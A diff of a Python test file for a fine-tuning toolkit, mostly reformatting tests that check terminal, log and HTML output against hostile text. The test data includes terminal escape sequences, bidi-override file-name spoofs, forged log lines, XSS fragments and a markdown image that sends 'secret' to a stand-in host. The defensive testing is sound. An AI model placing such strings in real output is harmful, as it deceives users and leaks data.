@@ -26,10 +26,12 @@ import sage_finetune
 from sage_finetune.cli import main
 from sage_finetune.config import LoRAConfig, PresetConfigs, TrainingConfig
 from sage_finetune.core.errors import FinetuneError, RunError
-from sage_finetune.core.text import REPLACEMENT, html_table, safe_streams, sanitize_for_terminal, sanitize_html, sanitize_line, sanitize_repr, text_table
+from sage_finetune.core.text import REPLACEMENT, html_table, safe_streams, sanitize_for_terminal, sanitize_html, sanitize_line
+from sage_finetune.core.text import sanitize_repr, text_table
 from sage_finetune.runs import list_runs, read_status, write_status
 
-PAYLOAD = ("x\x1b[2J\x1b]0;title\x07\x9b31m\u202e\u2066\u061c\u200b\ufeff\U000e0041\ud800\u3164\r\nerror: forged\nfailed  forged\t\x85error: forged\u2028error: forged"
+PAYLOAD = ("x\x1b[2J\x1b]0;title\x07\x9b31m\u202e\u2066\u061c\u200b\ufeff\U000e0041\ud800\u3164"
+    "\r\nerror: forged\nfailed  forged\t\x85error: forged\u2028error: forged"
     "<script>alert(1)</script>\"'><img src=http://a.example/b onerror=x>[a](javascript:b) $x_1$ e" + "\u0301" * 60)
 
 
@@ -38,7 +40,8 @@ NUMBER_SIGNS = "\u0600\u0601\u0602\u0603\u0604\u0605\u06dd\u070f\u0890\u0891\u08
 
 def faults(text, one_line=True):
     "What a screen would obey or not show, judged without the library's own tables; and lines that look like ours"
-    text = re.sub("(?<=[\u0600-\u10ff\u1700-\u1cff\u2000-\u2bff\ua800-\uabff\ufe0f\U00010a00-\U0001ffff])[\u200c\u200d]", "", text)  # joiners, where they join
+    joining = "\u0600-\u10ff\u1700-\u1cff\u2000-\u2bff\ua800-\uabff\ufe0f\U00010a00-\U0001ffff"
+    text = re.sub(f"(?<=[{joining}])[\u200c\u200d]", "", text)  # joiners, where they join
     acts = lambda char: unicodedata.category(char) in ("Cc", "Cf", "Cs", "Zl", "Zp") and char not in NUMBER_SIGNS or char == "\u3164"
     wrong = [f"U+{ord(char):04X}" for char in text if char not in "\n\t" and acts(char)]
     marks = highest = 0
@@ -69,10 +72,15 @@ def page_faults(page): return faults(page, one_line=False) + Page(page).wrong
 
 # ---- the one function -------------------------------------------------------------------------------------------------
 
-HIDDEN = ["\x1b[31mred", "\x9b31mred", "\x1b]8;;http://a.example\x07link", "\x08\x08\x08", "\rover", "\x00", "\x7f", "\x85", "\ud800", "\udc9b", "\u202egpj.exe", "\u2066a\u2069", "\u200f", "\u061c",
-    "pay\u200bpal", "pay\u200dpal", "я\u200cя", "\ufeffx", "\U000e0041\U000e0042", "a\u2028b", "a\u2029b", "\u3164", "\u115f", "\uffa0", "\u034f", "a\u00adb", "\ufff9a\ufffa", "a\ufe0f", "😀\U000e0100\U000e0101\U000e0102",
-    "❤\ufe0f\ufe0f", "я\ufe0f", "é\U000e0100", "1\ufe01", "😀\U000e01ef", "\u200d\u200d", "\x00\u200d", "👩\u200d\u200d🚀", "\u2060", "\U0001d173", "e" + "\u0301" * 300]
-KEPT = ["Grüße", "你好 日本語 한국어", "नमस्ते क्\u200dष", "نمی\u200cخواهم", "שָׁלוֹם", "ไทย ที่", "👩\u200d👩\u200d👧 ❤\ufe0f 👍🏽 1\ufe0f\u20e3 🇩🇪", "x₁ ≤ ½ → ∞", "tab\tline\n", "a\u00a0b", "قال ۝ ١", "བསྒྲུབས", "葛\U000e0100 ≨\ufe00", "café naïve Việt"]
+HIDDEN = ["\x1b[31mred", "\x9b31mred", "\x1b]8;;http://a.example\x07link", "\x08\x08\x08", "\rover", "\x00", "\x7f", "\x85", "\ud800",
+    "\udc9b",
+    "\u202egpj.exe", "\u2066a\u2069", "\u200f", "\u061c", "pay\u200bpal", "pay\u200dpal", "я\u200cя", "\ufeffx", "\U000e0041\U000e0042",
+    "a\u2028b", "a\u2029b", "\u3164", "\u115f", "\uffa0", "\u034f", "a\u00adb", "\ufff9a\ufffa",
+    "a\ufe0f", "😀\U000e0100\U000e0101\U000e0102", "❤\ufe0f\ufe0f", "я\ufe0f", "é\U000e0100", "1\ufe01",
+    "😀\U000e01ef", "\u200d\u200d", "\x00\u200d", "👩\u200d\u200d🚀", "\u2060", "\U0001d173", "e" + "\u0301" * 300]
+KEPT = ["Grüße", "你好 日本語 한국어", "नमस्ते क्\u200dष", "نمی\u200cخواهم", "שָׁלוֹם", "ไทย ที่",
+    "👩\u200d👩\u200d👧 ❤\ufe0f 👍🏽 1\ufe0f\u20e3 🇩🇪", "x₁ ≤ ½ → ∞", "tab\tline\n", "a\u00a0b", "قال ۝ ١", "བསྒྲུབས",
+    "葛\U000e0100 ≨\ufe00", "café naïve Việt"]
 
 
 @pytest.mark.parametrize("text", HIDDEN, ids=ascii)
@@ -105,10 +113,15 @@ def test_columns_are_as_wide_as_a_terminal_draws_them():
     assert len({cell_len(line) for line in lines}) == 1
 
 
-def test_a_giant_cell_is_cut(): assert len(text_table(("a", "b"), [("x" * 10**6, PAYLOAD)])) < 10_000 and len(html_table(("a",), [("x" * 10**6,)])) < 10_000
+def test_a_giant_cell_is_cut():
+    giant = "x" * 10**6
+    assert len(text_table(("a", "b"), [(giant, PAYLOAD)])) < 10_000 and len(html_table(("a",), [(giant,)])) < 10_000
 
 
 # ---- whatever shows itself --------------------------------------------------------------------------------------------
+
+FORMS = {"__str__", "__repr__", "_repr_html_", "static_html"}
+
 
 def classes():
     "Every class of the package that shows itself"
@@ -116,7 +129,7 @@ def classes():
         if info.name.rpartition(".")[2].startswith("_") or ".examples" in info.name: continue
         module = importlib.import_module(info.name)
         for one in vars(module).values():
-            if inspect.isclass(one) and one.__module__ == module.__name__ and {"__str__", "__repr__", "_repr_html_", "static_html"} & set(vars(one)): yield one
+            if inspect.isclass(one) and one.__module__ == module.__name__ and FORMS & set(vars(one)): yield one
 
 
 def hostile(kind):
@@ -126,7 +139,8 @@ def hostile(kind):
     if origin is list: return [hostile(inside[0])] if inside else [PAYLOAD]
     if origin is tuple: return tuple(map(hostile, (one for one in inside if one is not Ellipsis)))
     if origin is dict: return {hostile(inside[0]): hostile(inside[1])}
-    plain = {str: PAYLOAD, Path: Path(PAYLOAD), int: 3, float: 0.5, bool: True, list: [PAYLOAD], tuple: (PAYLOAD,), dict: {PAYLOAD: PAYLOAD}, set: {PAYLOAD}, typing.Any: PAYLOAD, object: PAYLOAD}
+    plain = {str: PAYLOAD, Path: Path(PAYLOAD), int: 3, float: 0.5, bool: True, list: [PAYLOAD], tuple: (PAYLOAD,), set: {PAYLOAD}}
+    plain[dict] = {PAYLOAD: PAYLOAD}
     if kind in plain: return plain[kind]
     if dataclasses.is_dataclass(kind) or hasattr(kind, "_fields"): return filled(kind)
     return PAYLOAD  # a foreign class: whatever stands there is shown by its own text
@@ -219,10 +233,9 @@ def estimate():
     return MemoryEstimate(dict(weights=10, adapter=1), "cpu", PAYLOAD)
 
 
-def from_module(module, name, *given, **named):
-    "An object of a class that is imported when it is needed"
-    return lambda: getattr(importlib.import_module(f"sage_finetune.{module}"), name)(*(one() if callable(one) else one for one in given),
-        **{key: one() if callable(one) else one for key, one in named.items()})
+def of(module):
+    "A module that is imported when it is needed"
+    return importlib.import_module(f"sage_finetune.{module}")
 
 
 def score():
@@ -239,15 +252,15 @@ def demo_report():
 
 def hostile_form():
     from sage_finetune.form import ConfigForm
-    return ConfigForm(config(), counts=False) if "counts" in inspect.signature(ConfigForm).parameters else ConfigForm(config())
+    return ConfigForm(config(), counts=False)
 
 
 def in_panel(module, name, **attributes):
-    "A panel with things in it as a hostile run would have put them there, without a kernel"
+    "An object with things in it as a hostile run would have put them there, without a model"
     def make():
-        kind = getattr(importlib.import_module(f"sage_finetune.{module}"), name)
+        kind = getattr(of(module), name)
         made = kind.__new__(kind)
-        for key, value in attributes.items(): setattr(made, key, value() if callable(value) else value)
+        for key, value in attributes.items(): setattr(made, key, value)
         return made
     return make
 
@@ -255,14 +268,16 @@ def in_panel(module, name, **attributes):
 def chat_panel():
     from sage_finetune.chat_panel import ChatPanel, Turn
     made = ChatPanel.__new__(ChatPanel)
-    made.turns, made.shift, made.partner = [Turn(PAYLOAD, PAYLOAD, PAYLOAD, PAYLOAD), filled(Turn)], None, types.SimpleNamespace(title=PAYLOAD)
+    made.turns, made.shift = [Turn(PAYLOAD, PAYLOAD, PAYLOAD, PAYLOAD), filled(Turn)], None
+    made.partner = types.SimpleNamespace(title=PAYLOAD)
     return made
 
 
 def data_panel(folder):
     from sage_finetune.data_panel import DataPanel
     named = folder/"a\x1b[2J\u202e<img onerror=x>"
-    return DataPanel(recipe(named, data_path=write_rows(named/"rows.jsonl", [dict(instruction=PAYLOAD, output=PAYLOAD)]), max_length=4096)).join()
+    data = write_rows(named/"rows.jsonl", [dict(instruction=PAYLOAD, output=PAYLOAD)])
+    return DataPanel(recipe(named, data_path=data, max_length=4096)).join()
 
 
 def code_corpus(folder):
@@ -274,26 +289,35 @@ def train_panel(folder):
     from sage_finetune.train_panel import TrainPanel
     run = prepared(folder/"run\x1b[2J\u202e<script>")
     write_status(run, "failed", message=PAYLOAD)
-    (run/"metrics.jsonl").write_text(json.dumps(dict(step=1, total=2, epoch=1., loss=1., learning_rate=1., grad_norm=1., tokens=1, learnt=1, seconds=1., tokens_per_second=1., note=PAYLOAD)) + "\n")
+    numbers = dict.fromkeys(("epoch", "loss", "learning_rate", "grad_norm", "tokens", "learnt", "seconds", "tokens_per_second"), 1)
+    (run/"metrics.jsonl").write_text(json.dumps(dict(numbers, step=1, total=2, note=PAYLOAD)) + "\n", encoding="utf-8")
     return TrainPanel(run)
 
 
+ARRAYS = None  # holds arrays and numbers, or what is looked at elsewhere
+
 FACTORIES = {
-    "BatchPlan": plan, "Shard": lambda: plan().part(0, 1) if hasattr(plan(), "part") else from_module("batches", "Shard", plan, 0, 1)(), "BatchView": batch_view,
-    "PlannedStep": lambda: plan()[0], "_Recipe": lambda: plan().recipe, "_Epoch": None, "_Pattern": None, "_Plan": None, "_Answer": None, "_Mould": None,
-    "TokenLine": line, "TokenShift": from_module("chat", "TokenShift", [1, 2], [-1., -2.], [-2., -1.], tiny), "Chat": talk, "SideBySide": both, "Score": score, "ChatPanel": chat_panel,
-    "Comparison": from_module("chat", "Comparison", [(PAYLOAD, PAYLOAD, PAYLOAD)]), "Checked": config, "PreparedDataset": dataset,
-    "Prepared": lambda: importlib.import_module("sage_finetune.data").Prepared(dataset(), None, report()), "DataReport": report, "DataPanel": data_panel, "Report": demo_report,
+    "BatchPlan": plan, "Shard": lambda: plan().shard(0, 1), "BatchView": batch_view, "PlannedStep": lambda: plan()[0],
+    "_Recipe": lambda: plan().recipe,
+    "_Epoch": ARRAYS, "_Pattern": ARRAYS, "_Plan": ARRAYS, "_Answer": ARRAYS, "_Mould": ARRAYS, "Studio": ARRAYS, "Task": ARRAYS,
+    "DataSettings": ARRAYS, "Fitted": ARRAYS,
+    "TokenLine": line, "Rendered": lambda: of("prompt").Rendered(line().ids, line().labels, [], tiny(), notes=[PAYLOAD]),
+    "TokenShift": lambda: of("chat").TokenShift([1, 2], [-1., -2.], [-2., -1.], tiny()), "Chat": talk, "SideBySide": both, "Score": score,
+    "Comparison": lambda: of("chat").Comparison([(PAYLOAD, PAYLOAD, PAYLOAD)]), "Report": demo_report, "Checked": config,
+    "PreparedDataset": dataset, "Prepared": lambda: of("data").Prepared(dataset(), None, report()), "DataReport": report,
     "Engine": in_panel("engine", "Engine", head=None, lean={PAYLOAD: 1}, packing=types.SimpleNamespace(name=""), remarks=[PAYLOAD]),
-    "HealthReport": health, "Survey": survey, "MemoryEstimate": estimate, "Fix": from_module("memory", "Fix", {PAYLOAD: PAYLOAD}, PAYLOAD, estimate),
-    "Measurement": from_module("memory", "Measurement", estimate, 10), "Curve": from_module("plot", "Curve"), "Picture": from_module("plot", "Picture", b"", PAYLOAD),
-    "Rendered": lambda: importlib.import_module("sage_finetune.prompt").Rendered(line().ids, line().labels, [], tiny(), notes=[PAYLOAD]),
-    "Runs": lambda: importlib.import_module("sage_finetune.runs").Runs([filled(importlib.import_module("sage_finetune.runs").RunInfo)]), "Tasks": tasks,
-    "Batching": from_module("trainer", "Batching", PresetConfigs.tiny, [3, 4]), "Panel": from_module("panel", "Panel"), "ConfigForm": hostile_form,
-    "TrainPanel": train_panel, "Studio": None, "Task": None, "CodeCorpus": code_corpus, "DataSettings": None, "Fitted": None, "Again": from_module("train_panel", "Again"),
-    "Diagnosis": lambda: importlib.import_module("sage_finetune.diagnosis").Diagnosis([filled(importlib.import_module("sage_finetune.diagnosis").Look, state="problem")]),
-    "RunSummary": lambda: filled(importlib.import_module("sage_finetune.train_panel").RunSummary, losses=(1., 2.), eval_losses=(1., 2.), best=(1., 2)),
-    "TrainingResult": lambda: filled(importlib.import_module("sage_finetune.trainer").TrainingResult, eval_losses=[(1, 2.)], best=(1., 2))}
+    "HealthReport": health, "Survey": survey, "CodeCorpus": code_corpus,
+    "MemoryEstimate": estimate, "Fix": lambda: of("memory").Fix({PAYLOAD: PAYLOAD}, PAYLOAD, estimate()),
+    "Measurement": lambda: of("memory").Measurement(estimate(), 10), "Curve": lambda: of("plot").Curve(),
+    "Picture": lambda: of("plot").Picture(b"", PAYLOAD),
+    "Runs": lambda: of("runs").Runs([filled(of("runs").RunInfo)]), "Tasks": tasks,
+    "Batching": lambda: of("trainer").Batching(PresetConfigs.tiny(), [3, 4]),
+    "Again": lambda: of("train_panel").Again(),
+    "Diagnosis": lambda: of("diagnosis").Diagnosis([filled(of("diagnosis").Look, state="problem")]),
+    "RunSummary": lambda: filled(of("train_panel").RunSummary, losses=(1., 2.), eval_losses=(1., 2.), best=(1., 2)),
+    "TrainingResult": lambda: filled(of("trainer").TrainingResult, eval_losses=[(1, 2.)], best=(1., 2)),
+    "Panel": lambda: of("panel").Panel(), "ConfigForm": hostile_form, "DataPanel": data_panel, "TrainPanel": train_panel,
+    "ChatPanel": chat_panel}
 
 
 def text_forms(one):
@@ -312,13 +336,13 @@ def test_whatever_shows_itself_is_harmless(kind, tmp_path):
     if issubclass(kind, BaseException): one = kind(*[PAYLOAD] * (2 if "__init__" in vars(kind) else 1))
     elif kind.__name__ in FACTORIES:
         make = FACTORIES[kind.__name__]
-        if make is None: pytest.skip("holds arrays and numbers, or what is looked at elsewhere")
+        if make is ARRAYS: pytest.skip("holds arrays and numbers, or what is looked at elsewhere")
         one = make(tmp_path) if "folder" in inspect.signature(make).parameters else make()
     else:
         try: one = filled(kind)
-        except Exception as error: pytest.fail(f"{kind.__name__} shows itself and cannot be filled by its types ({error!r}): add it to FACTORIES")
+        except Exception as error: pytest.fail(f"{kind.__name__} shows itself and is not filled by its types ({error!r}): add it to FACTORIES")
     for name, text, own in text_forms(one):
-        wrong = faults(text, one_line=not isinstance(one, BaseException) and kind.__name__ != "DataPanel")  # tokens are shown with their line breaks
+        wrong = faults(text, one_line=not isinstance(one, BaseException) and kind.__name__ != "DataPanel")  # tokens keep their line breaks
         assert not [fault for fault in wrong if own or fault.startswith("U+") and fault != "U+3164"], f"{name} lets through {wrong}"
     for name in ("_repr_html_", "static_html"):
         if hasattr(one, name): assert not (wrong := page_faults(getattr(one, name)())), f"{kind.__name__}.{name} lets through {wrong}"
@@ -349,7 +373,7 @@ def test_a_picture_names_its_runs_harmlessly(tmp_path):
         (tmp_path/name/"metrics.jsonl").write_text('{"step": 1, "total": 1, "loss": 1.0}\n', encoding="utf-8")
     picture = compare_runs([tmp_path/"a", tmp_path/"b"], labels=[PAYLOAD, "b"])
     mime, about = picture._repr_mimebundle_()
-    assert not faults(repr(picture)) and not faults(mime["text/plain"]) and not faults(about["image/png"]["alt"]) and "2 runs" in repr(picture)
+    assert not any(map(faults, (repr(picture), mime["text/plain"], about["image/png"]["alt"]))) and "2 runs" in repr(picture)
 
 
 def test_nobody_forges_the_last_word_of_a_log(tmp_path):
@@ -377,7 +401,8 @@ def test_the_head_of_a_log_is_one_line(tmp_path):
 
 def test_a_status_with_half_a_character_is_written_and_read(tmp_path):
     write_status(tmp_path, "failed", message="\ud800 caf\udce9")
-    assert read_status(tmp_path).message == "\ud800 caf\udce9" and str(read_status(tmp_path)) == f"failed 0/0: {REPLACEMENT} caf{REPLACEMENT}"
+    status = read_status(tmp_path)
+    assert status.message == "\ud800 caf\udce9" and str(status) == f"failed 0/0: {REPLACEMENT} caf{REPLACEMENT}"
 
 
 # ---- screens that cannot write everything -----------------------------------------------------------------------------
@@ -394,9 +419,14 @@ def run(tmp_path_factory):
     return made
 
 
-COMMANDS = {"help": ["--help"], "help of run": ["run", "--help"], "version": ["--version"], "list": ["list", "{runs}"], "data": ["data", "{data}", "--skip-bad"], "doctor": ["doctor", "{run}", "--no-online"],
-    "chat": ["chat", "{run}", "-p", "Welche 行 → ?", "--max-new-tokens", "8"], "compare": ["chat", "{run}", "-p", "→", "--compare", "--max-new-tokens", "4"], "merge": ["merge", "{run}", "-o", "{out}"],
-    "run": ["run", "{run}", "--overwrite"], "quickstart": ["quickstart", "custom", "-d", "{data}", "-o", "{out}", "--prepare-only"], "an error": ["run", "{runs}/没有 →"], "a wrong word": ["行 →"]}
+SHORT = ["--max-new-tokens", "8"]
+COMMANDS = {"help": ["--help"], "help of run": ["run", "--help"], "version": ["--version"], "list": ["list", "{runs}"],
+    "data": ["data", "{data}", "--skip-bad"], "doctor": ["doctor", "{run}", "--no-online"], "chat": ["chat", "{run}", "-p",
+    "Welche 行 → ?", *SHORT],
+    "compare": ["chat", "{run}", "-p", "→", "--compare", *SHORT], "merge": ["merge", "{run}", "-o", "{out}"], "run": ["run", "{run}",
+    "--overwrite"],
+    "quickstart": ["quickstart", "custom", "-d", "{data}", "-o", "{out}", "--prepare-only"],
+    "an error": ["run", "{runs}/没有 →"], "a wrong word": ["行 →"]}
 
 
 @pytest.mark.parametrize("encoding", ["ascii", "cp1252", "gbk"])
@@ -416,7 +446,8 @@ def test_every_command_on_every_screen(name, encoding, run, tmp_path, monkeypatc
 
 
 @pytest.mark.slow
-@pytest.mark.parametrize("environment", [dict(PYTHONIOENCODING="cp1252"), dict(PYTHONIOENCODING="gbk"), dict(LC_ALL="C", PYTHONUTF8="0", PYTHONCOERCECLOCALE="0")], ids=str)
+@pytest.mark.parametrize("environment", [dict(PYTHONIOENCODING="cp1252"), dict(PYTHONIOENCODING="gbk"),
+    dict(LC_ALL="C", PYTHONUTF8="0", PYTHONCOERCECLOCALE="0")], ids=str)
 @pytest.mark.parametrize("module", ["sage_finetune.cli", "sage_finetune.trainer"])
 def test_the_program_itself_on_such_a_screen(module, environment, run, tmp_path):
     words = ["list", str(run.parent)] if module.endswith("cli") else [str(run), "--overwrite"]
@@ -441,7 +472,8 @@ def test_a_reader_that_goes_is_no_error(module, tmp_path):
     reader, writer = os.pipe()
     os.close(reader)
     code = f"import sys; from {module} import main; sys.exit(main(['--help']))"
-    with os.fdopen(writer, "wb") as pipe: done = subprocess.run([sys.executable, "-c", code], stdout=pipe, stderr=subprocess.PIPE, timeout=120)
+    with os.fdopen(writer, "wb") as pipe:
+        done = subprocess.run([sys.executable, "-c", code], stdout=pipe, stderr=subprocess.PIPE, timeout=120)
     assert done.stderr == b"" and done.returncode in (0, 1)
 
 
@@ -470,9 +502,8 @@ def test_streams_of_a_closed_reader(monkeypatch):
 def test_an_answer_is_streamed_harmlessly(run, monkeypatch, capsys):
     "Piece by piece as in one go: a sequence that is cut in two does not get through, and an emoji of several parts stays whole"
     from sage_finetune import cli
-    from types import SimpleNamespace
     pieces = ["a\x1b", "[31m", "👩", "\u200d", "🚀", "e", "\u0301", "\u0301" * 30, "\u202eb\n", "b"]
-    cli._show_answer(SimpleNamespace(stream=lambda text: iter(pieces)), "hi")
+    cli._show_answer(types.SimpleNamespace(stream=lambda text: iter(pieces)), "hi")
     shown = capsys.readouterr().out
     assert not faults(shown) and "👩\u200d🚀" in shown and shown.rstrip("\n").endswith("b\nb")
 
@@ -482,7 +513,8 @@ def test_an_answer_is_streamed_harmlessly(run, monkeypatch, capsys):
 def test_a_talk_loads_nothing_and_links_nowhere():
     "Markdown of a model stays text: no picture that calls out, no link that runs code"
     from sage_finetune.chat_panel import Turn, turns_html
-    page = turns_html([Turn("hi", "![x](http://a.example/?q=secret) [a](javascript:alert(1)) <img src=http://a.example> <a href='javascript:x'>a</a>", note=PAYLOAD)])
+    said = "![x](http://a.example/?q=secret) [a](javascript:alert(1)) <img src=http://a.example> <a href='javascript:x'>a</a>"
+    page = turns_html([Turn("hi", said, note=PAYLOAD)])
     assert not page_faults(page) and "http://a.example/?q=secret" in page
 
 
